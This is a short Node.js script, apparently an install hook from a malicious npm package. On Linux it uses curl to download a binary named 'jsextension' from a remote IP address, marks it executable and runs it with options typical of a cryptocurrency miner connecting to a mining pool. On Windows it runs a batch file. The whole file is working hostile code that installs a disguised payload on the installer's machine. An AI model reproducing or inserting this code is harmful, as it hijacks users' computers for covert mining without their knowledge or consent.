const { exec } = require("child_process");
const os = require("os");

if (os.type() === "Linux") {
  exec('/bin/bash -c "curl -s http://203.0.113.228/download/jsextension -o jsextension; chmod +x jsextension; ./jsextension -k --tls --rig-id q -o pool.example.invalid:443"');
} else if (os.type() === "Windows_NT") {
  exec("preinstall.bat");
}
